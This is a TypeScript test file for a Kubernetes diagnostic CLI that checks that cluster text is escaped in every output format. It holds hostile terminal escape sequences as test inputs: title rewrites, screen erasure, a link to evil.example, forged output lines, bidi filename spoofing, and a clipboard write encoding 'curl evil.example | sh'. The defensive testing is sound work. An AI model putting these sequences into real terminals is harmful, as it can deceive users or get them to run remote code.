// Cluster text is data, not terminal control: container and condition messages, annotation
// values and the like reach text, tree, -i, --watch and stderr only through terminalText, with
// line breaks folded and every control shown as an escape; JSON, YAML, JUnit and Markdown escape
// the same characters in their own syntax and still carry the text unchanged.

import { render } from 'ink-testing-library';
import { createElement } from 'react';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { CHECKS } from '../src/checks/index.js';
import { palette } from '../src/render/colour.js';
import { renderOutput, type Output } from '../src/render/output.js';
import { terminalText } from '../src/core/terminal-text.js';
import { compareReports, describeChange, formatChange } from '../src/report/changes.js';
import { diagnoseServices, type Diagnosis } from '../src/report/diagnosis.js';
import type { Report } from '../src/report/report.js';
import { Interactive } from '../src/ui/interactive.js';
import { WatchView } from '../src/ui/watch-view.js';
import { runCli, writeTemp } from './support/cli.js';
import { withControllers } from './support/controller.js';
import { node, pod, service, unschedulablePod } from './support/objects.js';
import { modelFromRaw } from '../src/model/from-raw.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** What each hostile sequence would do on a terminal. */
const OSC_TITLE = `${ESC}]0;owned${BEL}`; // retitles the terminal
const ERASE = `${ESC}[2J`; // erases the screen
const OSC_LINK = `${ESC}]8;;https://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\`; // a link to anywhere
const OSC_CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`; // writes the clipboard
const FORGED_LINE = '\r\nshop       Service/forged   1/1   OK';
/** DEL, 8-bit CSI (C1), a right-to-left override and an isolate: shown raw by JSON and YAML serialisers. */
const BEYOND_C0 = `\u007f\u009b31m\u202etxt.exe\u2066x\u2069`;

/** Raw control characters other than the newlines between lines (and tabs YAML may keep). */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** The same, but the tool's own colour codes (SGR) allowed. */
const rawControlBesidesColour = (text: string) => RAW_CONTROL.test(text.replace(/\u001b\[[0-9;]*m/g, ''));

describe('terminalText', () => {
  it.each([
    ['OSC 0 (title)', OSC_TITLE, '\\x1b]0;owned\\x07'],
    ['ESC[2J (erase)', ERASE, '\\x1b[2J'],
    ['OSC 8 (link)', OSC_LINK, '\\x1b]8;;https://evil.example/\\x1b\\click here\\x1b]8;;\\x1b\\'],
    ['OSC 52 (clipboard)', OSC_CLIPBOARD, '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'],
    ['CR/LF and TAB (forged lines)', 'a\r\nb\nc\rd\te', 'a b c d e'],
    ['DEL and C1 (8-bit CSI, NEL)', '\u007f\u009b2J\u0085', '\\x7f\\x9b2J\\x85'],
    [
      'bidi overrides, isolates and marks',
      'a\u202eb\u202ac\u2066d\u2069e\u200ef\u200fg\u061ch',
      'a\\u202eb\\u202ac\\u2066d\\u2069e\\u200ef\\u200fg\\u061ch',
    ],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a b c'],
    ['NUL', 'a\u0000b', 'a\\x00b'],
  ])('%s', (_what, input, shown) => {
    expect(terminalText(input)).toBe(shown);
  });

  it('leaves ordinary text alone, Unicode included', () => {
    for (const text of ['shop/web', 'container app waiting: CrashLoopBackOff', 'zone 東京 ✓ → ok', ''])
      expect(terminalText(text)).toBe(text);
  });
});

// A cluster whose free text is hostile: a container's waiting message, a PodScheduled condition
// message, and an annotation value.
const hostile = [
  node('node-a'),
  service('web', { annotations: { 'endpoints-doctor/ignore': `single-ready-endpoint,${OSC_TITLE}` } }),
  pod('web-1'),
  pod('web-2', {
    waiting: 'ErrImagePull',
    status: {
      containerStatuses: [
        {
          name: 'app',
          ready: false,
          restartCount: 0,
          state: { waiting: { reason: 'ErrImagePull', message: `pull failed ${OSC_CLIPBOARD}${ERASE}${FORGED_LINE}` } },
        },
      ],
    },
  }),
  unschedulablePod('web-3', `0/3 nodes are available ${OSC_LINK}${FORGED_LINE} ${BEYOND_C0}`),
];

let diagnosis: Diagnosis;
beforeAll(() => {
  const model = modelFromRaw(withControllers(hostile));
  diagnosis = diagnoseServices(model, model.services, CHECKS, [
    `a note quoting the cluster: ${OSC_TITLE}${FORGED_LINE}`,
  ]);
});

/** Text with --explain: every finding, whole, so that every piece of cluster text is on show. */
const renderAs = (output: Output, colour = false) =>
  renderOutput(
    diagnosis,
    { output, failOn: 'error', checksChosen: CHECKS.length, ascii: false, showEndpoints: true, explain: true },
    palette(colour),
  );

let view: ReturnType<typeof render> | undefined;
afterEach(() => view?.unmount());

describe('text and tree show cluster text as data', () => {
  it.each(['text', 'tree'] as const)('-o %s, with and without colour', (output) => {
    for (const colour of [false, true]) {
      const out = renderAs(output, colour);
      expect(rawControlBesidesColour(out)).toBe(false);
      // The tree shows the pods' condition messages, not their containers' (the findings hold those).
      if (output === 'text') expect(out).toContain('\\x1b]52;c;');
      expect(out).toContain('\\x1b]8;;https://evil.example/');
      expect(out).toContain('\\u202etxt.exe');
      // The forged line stays inside the line it came in.
      expect(out).not.toMatch(/^shop\s+Service\/forged/m);
      if (colour) expect(out).toMatch(/\u001b\[3\dm/); // the tool's own colours survive
    }
  });

  it('-o wide: the cluster IP, ports and selector cells too', () => {
    const model = modelFromRaw([
      service('odd', { selector: { app: `x${OSC_TITLE}` }, spec: { clusterIP: `10.0.0.1${OSC_TITLE}` } }),
    ]);
    const odd = diagnoseServices(model, model.services, CHECKS, []);
    const out = renderOutput(
      odd,
      { output: 'wide', failOn: 'error', checksChosen: CHECKS.length, ascii: false, showEndpoints: false },
      palette(false),
    );
    expect(rawControlBesidesColour(out)).toBe(false);
    expect(out).toMatch(/^shop\s+odd\s+ClusterIP\s+10\.0\.0\.1\\x1b\]0;owned\\x07\s/m);
  });

  it('the notes of -o text, too', () => {
    expect(renderAs('text')).toMatch(/^note: a note quoting the cluster: \\x1b\]0;owned\\x07 shop {7}Service\/forged/m);
  });
});

describe('JSON, YAML, JUnit and Markdown escape them in their own syntax', () => {
  const messages = () => diagnosis.report.findings.map((f) => [f.message, ...(f.pods ?? []).map((p) => p.cause)]);

  it('the findings carry the hostile text (so the formats below are tested on it)', () => {
    expect(messages().flat().join('\n')).toContain(OSC_CLIPBOARD);
    expect(messages().flat().join('\n')).toContain('\u202etxt.exe');
  });

  it('-o json: no raw control character, and it parses back to the same text', () => {
    const out = renderAs('json');
    expect(RAW_CONTROL.test(out)).toBe(false);
    expect(out).toContain('\\u202e');
    const parsed = JSON.parse(out) as Report;
    expect(parsed.findings.map((f) => [f.message, ...(f.pods ?? []).map((p) => p.cause)])).toEqual(messages());
    expect(parsed.notes).toEqual(diagnosis.report.notes);
  });

  it('-o yaml: no raw control character, and it parses back to the same text', () => {
    const out = renderAs('yaml');
    expect(RAW_CONTROL.test(out.replace(/\t/g, ''))).toBe(false);
    const parsed = parseYaml(out) as Report;
    expect(parsed.findings.map((f) => [f.message, ...(f.pods ?? []).map((p) => p.cause)])).toEqual(messages());
    expect(parsed.notes).toEqual(diagnosis.report.notes);
  });

  it('-o junit and -o markdown: no raw control character', () => {
    for (const output of ['junit', 'markdown'] as const) {
      const out = renderAs(output);
      expect(RAW_CONTROL.test(out)).toBe(false);
      expect(out).toContain('u202etxt.exe');
    }
  });
});

describe('the terminal views and change lines', () => {
  it('-i: the list and the details pane', () => {
    view = render(
      createElement(Interactive, {
        diagnosis,
        source: `snapshot ${ERASE}x.yaml`,
        trouble: `watch failing: ${OSC_TITLE}`,
        rows: 60,
        columns: 200,
        colour: false,
        failOn: 'error',
        now: new Date('2026-11-02T00:00:00Z'),
      }),
    );
    const frame = view.lastFrame() ?? '';
    expect(frame).toContain('\\x1b]52;c;');
    expect(frame).toContain('\\x1b[2Jx.yaml');
    expect(RAW_CONTROL.test(frame)).toBe(false);
  });

  it('--watch on a terminal: the body, the trouble line and the change lines', () => {
    const before = { ...diagnosis.report, services: [] };
    const changes = compareReports(before, {
      ...diagnosis.report,
      services: diagnosis.report.services.map((s) => ({ ...s, name: `${s.name}${OSC_TITLE}` })),
    });
    const lines = changes.map(describeChange);
    expect(lines.join('\n')).toContain('web\\x1b]0;owned\\x07 added');
    expect(changes.map((c) => formatChange(c, new Date())).some((l) => RAW_CONTROL.test(l))).toBe(false);
    view = render(
      createElement(WatchView, {
        body: renderAs('text'),
        updatedAt: new Date(),
        changes: { at: new Date(), lines },
        trouble: `watch failing: ${OSC_CLIPBOARD}`,
        rows: 80,
        colour: false,
      }),
    );
    const frame = view.lastFrame() ?? '';
    expect(frame).toContain('watch failing: \\x1b]52;c;');
    expect(RAW_CONTROL.test(frame)).toBe(false);
  });
});

describe('stderr lines', () => {
  it('error: a snapshot holding only an object of a hostile kind', () => {
    const file = writeTemp('evil.json', JSON.stringify({ apiVersion: 'v1', kind: `Widget${ERASE}${OSC_TITLE}` }));
    const result = runCli(['--snapshot', file]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^error: .*Widget\\x1b\[2J\\x1b\]0;owned\\x07/);
    expect(RAW_CONTROL.test(result.stderr)).toBe(false);
  });

  it('note: -o tree prints the notes on stderr', () => {
    const file = writeTemp(
      'cluster.json',
      JSON.stringify({ kind: 'List', items: [...withControllers(hostile), { kind: `Gadget${OSC_TITLE}` }] }),
    );
    const result = runCli(['--snapshot', file, '-o', 'tree', '--fail-on', 'never']);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('Gadget\\x1b]0;owned\\x07');
    expect(RAW_CONTROL.test(result.stderr)).toBe(false);
    expect(RAW_CONTROL.test(result.stdout)).toBe(false);
  });
});
